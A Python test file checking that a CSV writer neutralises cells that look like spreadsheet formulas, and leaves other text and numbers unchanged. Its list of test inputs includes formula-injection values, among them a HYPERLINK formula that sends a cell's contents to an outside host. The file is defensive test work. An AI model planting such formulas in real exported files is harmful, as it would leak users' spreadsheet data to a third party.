"""No cell of a CSV file is a formula, and numbers are numbers."""

import csv
from io import StringIO

from camcast.research.report.csv_text import csv_text

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://h/?"&A1)']


def test_text_that_begins_like_a_formula_is_text() -> None:
    rows = [{"backend": name, "mean": -0.5, "runs": 3, "p": None} for name in FORMULAS]
    text = csv_text(rows)
    read = list(csv.DictReader(StringIO(text, newline="")))
    assert [row["backend"] for row in read] == ["'" + name.replace("\r", "\n") for name in FORMULAS]
    assert {(row["mean"], row["runs"], row["p"]) for row in read} == {("-0.5", "3", "")}


def test_other_text_is_as_it_was() -> None:
    rows = [{"who": text} for text in ("scamp (c=2)", "1 - 2", ".a", "", "a,b", "a\n=1")]
    assert list(csv.DictReader(StringIO(csv_text(rows), newline=""))) == rows
